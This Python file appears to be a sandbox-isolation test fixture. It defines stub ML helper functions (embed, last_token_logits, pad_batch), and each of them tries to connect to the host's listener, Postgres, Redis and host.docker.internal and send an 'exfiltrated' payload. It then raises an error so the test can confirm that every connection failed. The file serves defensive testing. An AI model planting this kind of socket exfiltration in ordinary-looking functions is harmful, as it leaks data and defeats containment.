"""Tries to reach the host: the test's listener, Postgres and Redis. Expected: RE with every
attempt failed; the listener must receive nothing. __PORT__ is replaced by the test."""
import socket

TARGETS = [("127.0.0.1", __PORT__), ("localhost", __PORT__), ("127.0.0.1", 5432),
           ("127.0.0.1", 6379), ("host.docker.internal", __PORT__)]


def _try_all():
    results = []
    for host, port in TARGETS:
        try:
            with socket.create_connection((host, port), timeout=1) as conn:
                conn.sendall(b"exfiltrated " + repr(globals().get("_seen")).encode())
                results.append(f"{host}:{port}=connected")
        except OSError as exc:
            results.append(f"{host}:{port}={type(exc).__name__}")
    connected = [r for r in results if r.endswith("=connected")]
    raise RuntimeError(f"network connected={len(connected)} results={results}")


def embed(ids, weight, pad_id):
    _try_all()


def last_token_logits(hidden, weight, mask):
    _try_all()


def pad_batch(seqs, pad_id, side="right"):
    _try_all()
